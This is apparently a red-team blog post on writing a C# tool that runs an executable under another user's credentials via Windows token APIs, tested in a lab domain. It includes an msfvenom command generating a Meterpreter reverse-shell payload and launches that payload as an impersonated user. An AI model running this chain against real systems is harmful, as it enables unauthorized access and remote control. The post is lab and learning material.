Home About

CSharp User Impersonation

Friday, July 24, 2020

My next post was supposed to be expanding on the C# Malware, but I ended up getting sidetracked by two new projects:

This post is about the former. I got super confused whilst writing this, and in the end, I it was because I was using the wrongWin32 API Call. More on that later.


So what do I want this to do? Its actually quite simple, I want to give credentials to a .exe, and have it run a process as that user. For testing, I went with a dirty msf executable. The workflow I was aiming for was:

.\CSharpRunAs.exe <Domain> <Username> <Password> <Path2Exe>

Pretty straightforward.

I'm not fussed about doing this with shellcode just yet, maybe in the future. But for now, I just wanted to get this working as an introduction to impersonation with the API.

Win32 API

I originally spent a lot of time looking at LogonUser and CreateProcessAsUser. This made logical sense, purely because of the function names.

To my dismay, I couldn't get this working. The process would open up with the impersonated user context, but I couldn't run commands like whoami as it would return 0xC0000142. Looking this up revealed that this error code was the STATUS_DLL_INIT_FAILED and the new process couldn't reach advapi32.dll. Theexplanation for this error code:

{DLL Initialization Failed} Initialization of the dynamic link library %hs failed. The process is terminating abnormally.

Looking through the docs, I then found CreateProcessWithTokenW. This function aligned more with what I wanted to achieve:

Creates a new process and its primary thread. The new process runs in the security context of the specified token. It can optionally load the user profile for the specified user.

The syntax:

BOOL CreateProcessWithTokenW(
  HANDLE                hToken,DWORD                 dwLogonFlags,
  LPCWSTR               lpApplicationName,
  LPWSTR                lpCommandLine,
  DWORD                 dwCreationFlags,
  LPVOID                lpEnvironment,
  LPCWSTR               lpCurrentDirectory,
  LPSTARTUPINFOW        lpStartupInfo,
  LPPROCESS_INFORMATION lpProcessInformation

This worked really well. But there is one caveat, it requires SeImpersonatePrivilege. The documentation explains it well:

The process that calls CreateProcessWithTokenW must have the SE_IMPERSONATE_NAME privilege. If this function fails with ERROR_PRIVILEGE_NOT_HELD (1314), usethe CreateProcessAsUser or CreateProcessWithLogonW function instead. Typically, the process that calls CreateProcessAsUser must have the SE_INCREASE_QUOTA_NAME privilege and may require the SE_ASSIGNPRIMARYTOKEN_NAME privilege if the token is not assignable. CreateProcessWithLogonW requires no special privileges, but the specified user account must be allowed to log on interactively. Generally, it is best to use CreateProcessWithLogonW to create a process with alternate credentials.

It also references another function I looked at: CreateProcessWithLogonW

This worked for local users, but had a bunch of issues for domain users. Presumably, when a user is created locally with net, the registry hive is also created on that machine. This is very unlikely to happen for a domain user being created (obviously). So, when this function is called, it tries to load a bunch of stuff and is just not usable. Bare in mind, that is speculation, I didnt look into this at all.

Back to CreateProcessWithTokenW. The first parameter, hToken, has a requirement:

A handle to the primary token that represents a user. The handle must have the TOKEN_QUERY, TOKEN_DUPLICATE, and TOKEN_ASSIGN_PRIMARYaccess rights.

It needs to be a primary token. Whilst writing this, I realised I didn't need to use DuplicateTokenEx as I was already using LogonUser, as long as I didn't use LOGON32_LOGON_NETWORK which returns Impersonation Token. If I'm wrong here, let me know!

I realised this whilst doing some post-dev research:

To get a primary token that represents the specified user, call the LogonUser function. Alternatively, you can call the DuplicateTokenEx function to convert an impersonation token into a primary token. This allows a server application that is impersonating a client to create a process that has the security context of the client.

I verified this, it does work with the duplicated token and theoriginal LogonUser token. Either way, I've kept it in for the release of the project because I don't see any harm in it.


With the 3 (should be2) functions explained. I went down a bit of a rabbit hole of trying to determine the default status of SeImpersonatePrivilege. Microsoft explain it in their The "Impersonate a Client AfterAuthentication" User Right (SeImpersonatePrivilege) post:

The "Impersonate a client after authentication" user right (SeImpersonatePrivilege) is a Windows 2000 security setting that was first introduced in Windows 2000 SP4. By default, members of the device's local Administrators group and the device's local Service account are assigned the "Impersonate a client after authentication" user right.

So there's my answer, "members of the device's local Administrators group and the device's local Service account".


There is a lot enums, structs and externs involved in making this work and I don't want to make this explanation 99% function declarations. With that said, heres a bunch of code:

[DllImport("advapi32", SetLastError = true, CharSet = CharSet.Unicode)]
public static extern bool CreateProcessWithTokenW
    IntPtr hToken,
    dwLogonFlags logonFlags,
    String lpApplicationName,
    String lpCommandLine,
    dwCreationFlags creationFlags,
    IntPtr lpEnvironment,
    String lpCurrentDirectory,
    [In] ref StartupInformation lpStartupInfo,
    out ProcessInformation lpProcessInformation[DllImport("advapi32.dll", CharSet = CharSet.Auto, SetLastError = true)]
public extern static bool DuplicateTokenEx
    IntPtr hExistingToken,
    uint dwDesiredAccess,
    ref SECURITY_ATTRIBUTES lpTokenAttributes,
    TOKEN_TYPE TokenType,
    ref IntPtr phNewToken
[DllImport("advapi32.dll", CharSet = CharSet.Auto, SetLastError = true)]
public extern static bool LogonUser
    String pszUserName,
    String pszDomain,
    String pszPassword,
    dwLogonType logonType,
    dwLogonProvider logonProvider,
    ref IntPtr phToken

This is the basic structure of the functions, but there is one variable I want to draw attention to because they gave me a lot of crap.Introducing logonType in LogonUser:


The LOGON32_LOGON_NETWORK value is defined as:

This logon type is intended for high performance servers to authenticate plaintext passwords. TheLogonUser function does not cache credentials for this logon type.

Originally, I was playing with LOGON32_LOGON_INTERACTIVE :

This logon type is intended for users who will be interactively using the computer, such as a user being logged on by a terminal server, remote shell, or similar process. This logon type has the additional expense of caching logon information for disconnected operations; therefore, it is inappropriate for some client/server applications, such as a mail server.

But this just kept returning the following error:

Logon failure: the user has not been granted the requested logon type at this computer (Error Code: 1385)

I wish I landed on LOGON32_LOGON_NETWORK in a cooler way, but it was honestly trial and error.

The final thing to mention here is that it is designed and tested using only a binary for execution. I dont think it will work by passing cmd /c or anything, but I haven't tested it, so who knows! This was done by setting the lpApplicationName to the path supplied via user arguments.

Other than that, this was quite straight forward. Three functions that linked together quite well.


The fun part.

I tested this on a Windows 10 machine using a local user, and a Windows 2012 R2 machine using a domain user.

The examples given here are for the Windows 2012 R2 machine. Here are the users on the domain:

PS C:\> net users /domain

User accounts for \\DC01Administrator            Guest                    impersonateme
katara                   krbtgt                   sokka
The command completed successfully.
PS C:\>

impersonateme is the user I will be going for. I'm lazy, so theres no -h. But if you just run it, it will give you the "help":

[*] Usage: .\CSharpRunAs.exe <Domain> <Username> <Password> <Path2Exe>

Now for the Path2Exe, I just used a meterpreter exe:

msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST= LPORT=443 -f exe -o shell.exe

This is the bit which I spent WAY TOO LONG on. Make sure that the binary to run is reachable by the new user. It took me ages to realise that the binary to run was sat on the Administrator's desktop. So, I got loads of access denied messages :)

For this example, I just sat both binaries in C:\.Running it:

.\CSharpRunAs.exe water.tribe impersonateme Password123!C:\shell.exe

And a session spawns as the new user:

It works!


This was a bit of a tangent from what I was working on this week, but I think its cool. CSharpRunAs uses the SeImpersonatePrivilege to grab a token with some creds, and run anexecutable as that user using the WIN32 API. The next thing on my list isinjecting code into an existing process, I already have a bunch of code for this, but its all in different places.